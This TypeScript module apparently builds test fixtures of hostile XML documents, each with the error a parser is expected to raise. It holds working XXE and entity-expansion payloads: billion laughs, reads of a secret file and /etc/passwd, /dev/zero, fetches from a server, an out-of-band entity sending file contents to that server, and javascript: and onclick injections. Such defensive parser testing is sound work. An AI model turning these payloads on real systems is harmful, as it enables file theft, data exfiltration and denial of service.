import { articleAround } from './article-around.ts';
import { type Bait, type HostileFile, hostile } from './hostile-file.ts';

const declares = 'declares entities of its own';
const ownType = 'document type of its own';
const named = 'named entity';

const withSubset = (subset: string, use = '', external = ''): string =>
  articleAround({ doctype: `<!DOCTYPE article ${external} [${subset}]>`, body: `<p>${use}</p>` });

const chain = (levels: number, repeats: number): string =>
  Array.from({ length: levels }, (_, level) => {
    const value = level === 0 ? 'ha' : `&e${level - 1};`.repeat(repeats);
    return `<!ENTITY e${level} "${value}">`;
  }).join('');

/** Entities that grow, that read files, that call servers, and document types that change what a document says. */
export const entityFiles = ({ secretFile, server }: Bait): readonly HostileFile[] => [
  hostile('billion laughs', withSubset(chain(10, 10), '&e9;'), declares),
  hostile(
    'quadratic blow-up',
    () => withSubset(`<!ENTITY a "${'a'.repeat(100_000)}">`, '&a;'.repeat(50_000)),
    declares,
  ),
  hostile('entity that contains itself', withSubset('<!ENTITY a "&b;"><!ENTITY b "&a;">', '&a;'), declares),
  hostile('parameter entities', withSubset('<!ENTITY % a "<!ENTITY b \'c\'>">%a;', '&b;'), declares),
  hostile(
    'parameter entities that multiply',
    withSubset('<!ENTITY % a "x"><!ENTITY % b "%a;%a;%a;"><!ENTITY c "%b;">', '&c;'),
    declares,
  ),
  hostile('entity that is never used', withSubset('<!ENTITY a "b">'), declares),
  hostile('entity in lower case', withSubset('<!entity a "b">', '&a;')),
  hostile('entity behind a comment', withSubset('<!-- ]> --><!ENTITY a "b">', '&a;'), declares),
  hostile('entity behind an instruction', withSubset('<?x ]> ?><!ENTITY a "b">', '&a;'), declares),
  hostile('entity behind a quoted bracket', withSubset('<!ENTITY a "b">', '&a;', 'PUBLIC "[" "]>"'), declares),
  hostile('external entity from a file', withSubset(`<!ENTITY a SYSTEM "file://${secretFile}">`, '&a;'), declares),
  hostile(
    'external entity from a relative file',
    withSubset('<!ENTITY a SYSTEM "../../../../etc/passwd">', '&a;'),
    declares,
  ),
  hostile('external entity from a server', withSubset(`<!ENTITY a SYSTEM "${server}/entity">`, '&a;'), declares),
  hostile('external entity through PUBLIC', withSubset(`<!ENTITY a PUBLIC "x" "${server}/public">`, '&a;'), declares),
  hostile('external parameter entity', withSubset(`<!ENTITY % a SYSTEM "${server}/parameter">%a;`), declares),
  hostile(
    'secret sent to a server',
    withSubset(`<!ENTITY % f SYSTEM "file://${secretFile}"><!ENTITY % d SYSTEM "${server}/d?%f;">%d;`),
    declares,
  ),
  hostile('unparsed entity', withSubset('<!NOTATION n SYSTEM "x"><!ENTITY a SYSTEM "x.gif" NDATA n>'), declares),
  hostile('endless device', withSubset('<!ENTITY a SYSTEM "file:///dev/zero">', '&a;'), declares),
  hostile(
    'entity in an attribute',
    articleAround({
      doctype: '<!DOCTYPE article [<!ENTITY a "javascript:alert(1)">]>',
      body: '<p><ext-link xlink:href="&a;">x</ext-link></p>',
    }),
    declares,
  ),
  hostile('default attributes', withSubset('<!ATTLIST p onclick CDATA "alert(1)">', 'x'), ownType),
  hostile('own elements', withSubset('<!ELEMENT p ANY>', 'x'), ownType),
  hostile('notation', withSubset('<!NOTATION n SYSTEM "/bin/sh">', 'x'), ownType),
  hostile('parameter reference alone', withSubset('%a;', 'x'), ownType),
  hostile('conditional section', withSubset('<![INCLUDE[<!ENTITY a "b">]]>', 'x')),
  hostile(
    'document type from a server',
    articleAround({ doctype: `<!DOCTYPE article SYSTEM "${server}/article.dtd">` }),
  ),
  hostile('document type from a file', articleAround({ doctype: `<!DOCTYPE article SYSTEM "file://${secretFile}">` })),
  hostile('two document types', articleAround({ doctype: '<!DOCTYPE article><!DOCTYPE article>' }), 'not well-formed'),
  hostile(
    'document type after the root',
    `${articleAround({})}<!DOCTYPE article [<!ENTITY a "b">]>`,
    'not well-formed',
  ),
  hostile('document type that never ends', '<?xml version="1.0"?><!DOCTYPE article [<!ENTITY a "', 'not well-formed'),
  hostile('huge document type', () => withSubset(`<!--${'x'.repeat(8_000_000)}-->`, 'x'), 'does not begin'),
  hostile('many declarations', () => withSubset('<!ENTITY a "b">'.repeat(400_000)), 'does not begin'),
  hostile('named entity of HTML', articleAround({ body: '<p>&nbsp;&copy;</p>' }), named),
  hostile('entity named like a property', articleAround({ body: '<p>&constructor;&__proto__;&toString;</p>' }), named),
  hostile('character that is none', articleAround({ body: '<p>&#0;</p>' }), 'not well-formed'),
  hostile(
    'character beyond Unicode',
    articleAround({ body: '<p>&#x110000;&#99999999999999999999;</p>' }),
    'not well-formed',
  ),
];
